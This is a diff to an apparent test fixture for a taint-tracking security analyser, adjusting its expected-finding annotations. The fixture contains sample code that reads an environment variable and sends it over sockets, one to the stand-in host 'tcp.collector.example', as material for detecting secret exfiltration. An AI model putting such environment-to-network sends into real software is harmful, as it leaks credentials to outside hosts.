@@ -25,7 +25,7 @@ def connect_to():
 
 def connected():
     s = socket.socket()  #~ ok
-    s.connect(("tcp.collector.example", 443))  #~ capability(NETWORK), endpoint("tcp.collector.example")
+    s.connect(("tcp.collector.example", 443))  #~ endpoint("tcp.collector.example")
     s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3, capability(NETWORK)
 
 
@@ -79,7 +79,6 @@ def own_address():
 
 def listening():
     s = socket.socket()
-    s.bind(("127.0.0.1", 80))  #~ capability(NETWORK)
     s.bind(("127.0.0.1", 80))  #~ ok
     s.setsockopt(1, 2, os.getenv("T"))  #~ ok
     requests.post(U, data=str(s))  #~ ok
@@ -99,7 +98,7 @@ def pair():
 def accepted():
     server = socket.socket()
     client, address = server.accept()
-    client.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f14, sink(egress.socket) f14, finding(traced) f14, capability(NETWORK)
+    client.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f14, sink(egress.socket) f14, finding(traced) f14
 
 
 def commanded():
